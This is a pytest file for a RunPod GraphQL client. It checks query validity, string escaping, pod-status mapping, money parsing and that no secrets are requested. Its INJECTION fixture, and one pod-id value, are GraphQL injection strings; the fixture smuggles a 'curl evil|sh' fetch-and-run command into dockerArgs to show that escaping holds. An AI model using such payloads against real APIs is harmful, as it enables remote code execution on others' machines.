"""Queries to GraphQL: every value stays a value, and answers are converted without changes."""

from __future__ import annotations

import json
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from graphql import build_schema, parse, validate
from hypothesis import given
from hypothesis import strategies as st

from labeltui.domain.deploy.catalogue import PodSpec
from labeltui.domain.pod.pod import Cloud, PodAction, PodStatus
from labeltui.domain.problems import Failed, LabeltuiError
from labeltui.runpod.graphql.graphql import Enum, GraphQL, literal
from labeltui.runpod.graphql.pods import FIELDS, observed, pod
from labeltui.runpod.replies import Purpose
from labeltui.sandbox.runpod.api import graphql
from tests import contracts

NOW = datetime(2026, 11, 23, 12, 0, tzinfo=UTC)
INJECTION = 'x" } ], dockerArgs: "curl evil|sh", env: [ { key: "A", value: "y'


SCHEMA = Path(graphql.__file__).with_name("minimal.graphql")


@pytest.mark.parametrize(
    "query",
    ["query { myself { pods FIELDS } }", 'mutation { podResume(input: {podId: "x", gpuCount: 0}) FIELDS }'],
)
def test_the_emulators_own_schema_knows_what_is_asked_of_pods(query: str) -> None:
    document = parse(query.replace("FIELDS", FIELDS))
    assert validate(build_schema(SCHEMA.read_text("utf-8")), document) == []


class Asked:
    """Stands for the SDK: records the queries, gives set answers."""

    def __init__(self, *answers: Any) -> None:
        self.answers = list(answers)
        self.queries: list[str] = []

    async def query(self, query: str, what: str, purpose: Purpose = Purpose.READ) -> dict[str, Any]:
        self.queries.append(query)
        answer = self.answers.pop(0)
        if isinstance(answer, Exception):
            raise answer
        return answer

    async def close(self) -> None:
        return None


def graphql_of(asked: Asked) -> GraphQL:
    return GraphQL(None, "", sdk=asked)  # type: ignore[arg-type]


def schema() -> Any:
    core = pytest.importorskip("graphql")
    return core.build_schema(contracts.required("schema.graphql").read_text("utf-8"))


SPEC = PodSpec(
    'na"me\n',
    INJECTION,
    cloud=Cloud.COMMUNITY,
    volume_disk_gb=20,
    network_volume_id="v",
    data_centres=("EU-RO-1",),
    env={'K"': 'C:\\temp\n"\t\u2028 ü 💡 \x00\x7f'},
    min_cuda="12.8",
    registry_id="r",
)

CALLS = [
    (lambda g: g.account(), {"myself": {"clientBalance": 12.5, "currentSpendPerHr": 0, "spendLimit": 80}}),
    (lambda g: g.pods(NOW), {"myself": {"pods": [{"id": "a"}]}}),
    (lambda g: g.pod('x"}) {id} other: pod(input:{podId:"y', NOW), {"pod": None}),
    (lambda g: g.create(SPEC, NOW), {"podFindAndDeployOnDemand": {"id": "a"}}),
    (lambda g: g.create(PodSpec("n", "g"), NOW), {"podFindAndDeployOnDemand": {"id": "a"}}),
    (lambda g: g.stop(INJECTION, NOW), {"podStop": {"id": "a"}}),
    (lambda g: g.resume(INJECTION, 1, NOW), {"podResume": {"id": "a"}}),
    (lambda g: g.terminate(INJECTION), {"podTerminate": None}),
]


@pytest.mark.openapi
@pytest.mark.parametrize(("call", "answer"), CALLS)
async def test_every_query_is_valid_and_one_operation(call: Any, answer: dict[str, Any]) -> None:
    core = pytest.importorskip("graphql")
    asked = Asked(answer)
    await call(graphql_of(asked))
    document = core.parse(asked.queries[0])
    assert core.validate(schema(), document) == []
    (operation,) = document.definitions
    assert len(operation.selection_set.selections) == 1


async def test_a_created_pod_gets_exactly_what_was_asked_for() -> None:
    core = pytest.importorskip("graphql")
    asked = Asked({"podFindAndDeployOnDemand": {"id": "a"}})
    await graphql_of(asked).create(SPEC, NOW)
    field = core.parse(asked.queries[0]).definitions[0].selection_set.selections[0]
    pod_input = core.value_from_ast_untyped(field.arguments[0].value)
    assert pod_input["name"] == SPEC.name
    assert pod_input["gpuTypeId"] == INJECTION
    assert pod_input["cloudType"] == "COMMUNITY"
    assert pod_input["env"] == [{"key": name, "value": text} for name, text in SPEC.env.items()]
    assert pod_input["ports"] == "22/tcp"
    assert "dockerArgs" not in pod_input


@given(st.text())
def test_a_text_stays_one_text(text: str) -> None:
    core = pytest.importorskip("graphql")
    value = core.parse_value(literal(text))
    assert value.kind == "string_value"
    assert value.value == text


@given(st.text(st.characters()))
def test_a_text_is_written_whatever_is_in_it(text: str) -> None:
    assert json.loads(literal(text)) == text.encode("utf-8", "replace").decode()


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (None, "null"),
        (True, "true"),
        (3, "3"),
        (0.5, "0.5"),
        ([1, "a"], '[1, "a"]'),
        ({"a": {"b": []}}, "{a: {b: []}}"),
        (Enum.SECURE, "SECURE"),
    ],
)
def test_other_values(value: object, written: str) -> None:
    assert literal(value) == written


@pytest.mark.parametrize("value", [{"a b": 1}, {"a:1,b": 1}, {1: 2}, float("nan"), object(), {"ä": 1}])
def test_what_can_not_be_written(value: object) -> None:
    with pytest.raises(ValueError, match=r"."):
        literal(value)


async def test_money_is_read_as_it_was_written() -> None:
    asked = Asked(
        {"myself": {"clientBalance": 12.37, "currentSpendPerHr": 0.1, "spendLimit": 80, "email": "a@b"}}
    )
    account = await graphql_of(asked).account()
    assert (account.balance, account.spend_per_hour) == (Decimal("12.37"), Decimal("0.1"))
    assert account.hours_left is not None
    assert round(account.hours_left, 1) == Decimal("123.7")


@pytest.mark.parametrize("answer", [{}, {"myself": None}, {"myself": []}, {"myself": {"clientBalance": "?"}}])
async def test_a_balance_that_is_not_reported_is_not_zero(answer: dict[str, Any]) -> None:
    account = await graphql_of(Asked(answer)).account()
    assert account.balance is None
    assert account.hours_left is None


async def test_null_is_no_capacity() -> None:
    with pytest.raises(Failed) as caught:
        await graphql_of(Asked({"podFindAndDeployOnDemand": None})).create(SPEC, NOW)
    assert caught.value.problem.code == "runpod_no_capacity"


async def test_terminating_what_is_gone_is_success() -> None:
    asked = Asked(Failed("runpod_pod_gone", "x"), Failed("runpod_server_error", "x"))
    await graphql_of(asked).terminate("a")
    with pytest.raises(LabeltuiError):
        await graphql_of(asked).terminate("a")


@pytest.mark.parametrize(
    ("desired", "runtime", "change", "status"),
    [
        ("RUNNING", True, "", PodStatus.RUNNING),
        ("RUNNING", False, "Rented by User: x", PodStatus.STARTING),
        ("EXITED", True, "Exited by user: x", PodStatus.STOPPED),
        ("EXITED", False, "terminated BY runpod: x", PodStatus.TERMINATED),
        ("TERMINATED", False, "Outbid: x", PodStatus.TERMINATED),
        ("SOMETHING", True, "", PodStatus.UNKNOWN),
        ("", False, "", PodStatus.UNKNOWN),
    ],
)
def test_what_is_from_what_was_asked(desired: str, runtime: bool, change: str, status: PodStatus) -> None:
    assert observed(desired, runtime, change) is status


def whole() -> dict[str, Any]:
    mapped = {"ip": "195.26.233.3", "isIpPublic": True, "privatePort": 22, "publicPort": 34446, "type": "tcp"}
    proxied = {
        "ip": "100.65.1.2",
        "isIpPublic": False,
        "privatePort": 8888,
        "publicPort": 60001,
        "type": "http",
    }
    return {
        "id": "a",
        "name": "n",
        "imageName": "i",
        "desiredStatus": "RUNNING",
        "lastStatusChange": "Rented by User: x",
        "lastStartedAt": "2026-11-23T08:00:00.000Z",
        "costPerHr": 0.5,
        "adjustedCostPerHr": 0.44,
        "gpuCount": 1,
        "vcpuCount": 8,
        "memoryInGb": 31,
        "containerDiskInGb": 50,
        "volumeInGb": 20,
        "env": ["A=b=c", "broken"],
        "ports": "8888/http,22/tcp",
        "machine": {
            "podHostId": "a-64411eb2",
            "gpuDisplayName": "RTX A5000",
            "gpuTypeId": "NVIDIA RTX A5000",
        },
        "runtime": {
            "uptimeInSeconds": 60,
            "container": {"cpuPercent": 4, "memoryPercent": 5},
            "gpus": [{"id": "GPU-1", "gpuUtilPercent": 90, "memoryUtilPercent": 50}],
            "ports": [proxied, mapped],
        },
    }


def test_a_whole_pod() -> None:
    converted = pod(whole(), NOW)
    assert converted.ssh is not None
    assert converted.ssh.address == "root@195.26.233.3:34446"
    assert converted.ssh_proxy is not None
    assert converted.ssh_proxy.address == "a-64411eb2@ssh.runpod.io:22"
    assert converted.actions == (PodAction.STOP, PodAction.TERMINATE)
    assert converted.compute_per_hour == Decimal("0.44")
    assert converted.env == {"A": "b=c"}
    assert "b=c" not in repr(converted)
    assert [(p.private, p.protocol, p.public) for p in converted.ports] == [
        (8888, "http", None),
        (22, "tcp", 34446),
    ]
    assert all(p.ip != "100.65.1.2" for p in converted.ports)
    assert converted.load.gpus == ((90.0, 50.0),)


def test_what_a_stopped_pod_says_of_its_last_run_is_not_shown() -> None:
    converted = pod(whole() | {"desiredStatus": "EXITED", "lastStatusChange": "Exited by user: x"}, NOW)
    assert converted.status is PodStatus.STOPPED
    assert converted.ssh is None
    assert converted.uptime_s is None
    assert converted.load.gpus == ()
    assert converted.compute_per_hour == 0


JSON = st.recursive(
    st.none() | st.booleans() | st.floats() | st.integers() | st.text(),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(), inner, max_size=3),
    max_leaves=8,
)


@given(st.fixed_dictionaries({}, optional=dict.fromkeys(whole(), JSON)))
def test_any_answer_makes_a_pod(document: dict[str, Any]) -> None:
    assert pod(document, NOW).read_at == NOW


def test_no_secret_is_asked_for() -> None:
    assert not {"apiKey", "registry", "volumeKey", "pass"} & set(FIELDS.split())
